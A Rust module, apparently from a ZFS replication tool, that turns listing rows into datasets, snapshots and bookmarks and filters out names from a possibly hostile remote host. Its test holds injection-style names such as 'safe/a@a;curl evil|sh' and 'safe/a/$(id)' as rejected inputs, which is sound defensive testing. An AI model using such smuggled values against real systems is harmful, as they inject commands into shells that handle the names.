//! The datasets, snapshots and bookmarks of one side of a job, from the rows of a listing.

use std::collections::BTreeMap;

use pool::DatasetName;
use protocol::api::{DatasetRow, PropertyValue, command};

/// The properties that a listing needs.
pub(super) const PROPS: [&str; 5] = [
    "type",
    "guid",
    "createtxg",
    "receive_resume_token",
    "origin",
];

/// A snapshot or bookmark.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct SavePoint {
    /// The name with its mark, `@name` or `#name`.
    pub(super) name: String,
    pub(super) guid: u64,
    /// The transaction group in which it was made, in its pool.
    pub(super) txg: u64,
}

/// A dataset of one side.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct ListedDataset {
    pub(super) name: String,
    /// The snapshots, the oldest first.
    pub(super) snapshots: Vec<SavePoint>,
    pub(super) bookmarks: Vec<SavePoint>,
    /// The token of an interrupted receive.
    pub(super) token: Option<String>,
    /// The snapshot that it is a clone of.
    pub(super) origin: Option<String>,
    /// True if only a part of it was received.
    pub(super) is_partial: bool,
}

/// The command that lists one side.
pub(super) fn listing_of(name: &str, recursive: bool) -> command::Get {
    command::Get {
        names: vec![name.to_owned()],
        // The snapshots are one level below their dataset.
        depth: (!recursive).then_some(1),
        snapshots: true,
        bookmarks: true,
        props: PROPS.map(str::to_owned).to_vec(),
    }
}

/// The datasets in the rows of a listing, in order. Without `recursive` only the first one. A row is left out if its name is
/// none, or not at or below `top`: another host may be hostile, and names become advice and requests.
pub(super) fn datasets_in(rows: Vec<DatasetRow>, top: &str, recursive: bool) -> Vec<ListedDataset> {
    let mut order = Vec::new();
    let mut all: BTreeMap<String, ListedDataset> = BTreeMap::new();
    for row in rows {
        let value = |wanted: &str| {
            let mut props = row.props.iter();
            props
                .find(|prop| prop.property == wanted)
                .map(|prop| &prop.value)
        };
        let text = |wanted: &str| match value(wanted) {
            Some(PropertyValue::Text(text)) if !text.is_empty() && text != "-" => {
                Some(text.clone())
            }
            _ => None,
        };
        let number = |wanted: &str| match value(wanted) {
            Some(PropertyValue::Number(number)) => *number,
            Some(PropertyValue::Text(text)) => text.parse().unwrap_or(0),
            _ => 0,
        };
        let end = row.name.find(['@', '#']).unwrap_or(row.name.len());
        let (dataset, mark) = row.name.split_at(end);
        if !recursive && dataset != top || !is_name_within(dataset, mark, top) {
            continue;
        }
        let listed = all.entry(dataset.to_owned()).or_insert_with(|| {
            order.push(dataset.to_owned());
            ListedDataset {
                name: dataset.to_owned(),
                ..ListedDataset::default()
            }
        });
        let point = SavePoint {
            name: mark.to_owned(),
            guid: number("guid"),
            txg: number("createtxg"),
        };
        match mark.chars().next() {
            Some('@') => listed.snapshots.push(point),
            Some(_) => listed.bookmarks.push(point),
            None => {
                listed.token = text("receive_resume_token");
                listed.origin = text("origin");
                // The dataset itself does not exist yet, and has no guid.
                listed.is_partial = number("guid") == 0;
            }
        }
    }
    let mut datasets: Vec<ListedDataset> =
        order.iter().filter_map(|name| all.remove(name)).collect();
    for dataset in &mut datasets {
        dataset.snapshots.sort_by_key(|point| point.txg);
        dataset.bookmarks.sort_by_key(|point| point.txg);
    }
    datasets
}

/// Returns whether a dataset with its mark has a name that is allowed, at or below `top`.
fn is_name_within(dataset: &str, mark: &str, top: &str) -> bool {
    let below = dataset.strip_prefix(top);
    // A bookmark has a name like that of a snapshot.
    let name = format!("{dataset}{}", mark.replacen('#', "@", 1));
    below.is_some_and(|below| below.is_empty() || below.starts_with('/'))
        && DatasetName::parse(&name).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rows_with_names_that_are_none_are_left_out() {
        let row = |name: &str| DatasetRow {
            name: name.to_owned(),
            kind: String::new(),
            props: Vec::new(),
        };
        let long = format!("safe/a/{}", "x".repeat(9 << 20));
        let names = [
            "safe/a",
            "safe/a@1",
            "safe/a#replicate.j.7",
            "safe/a@a;curl evil|sh",
            "safe/a#b'c",
            "safe/a@1#2",
            "safe/a/b c",
            "safe/a/$(id)",
            "safe/a/\u{1b}[2J",
            "safe/ab",
            "other/a",
            "",
            &long,
        ];
        let rows = names.map(row).to_vec();
        let found = datasets_in(rows, "safe/a", true);
        let names: Vec<&str> = found.iter().map(|one| one.name.as_str()).collect();
        assert_eq!(names, ["safe/a", "safe/a/b c"]);
        let marks = |points: &[SavePoint]| -> Vec<String> {
            points.iter().map(|point| point.name.clone()).collect()
        };
        assert_eq!(marks(&found[0].snapshots), ["@1"]);
        assert_eq!(marks(&found[0].bookmarks), ["#replicate.j.7"]);
    }
}
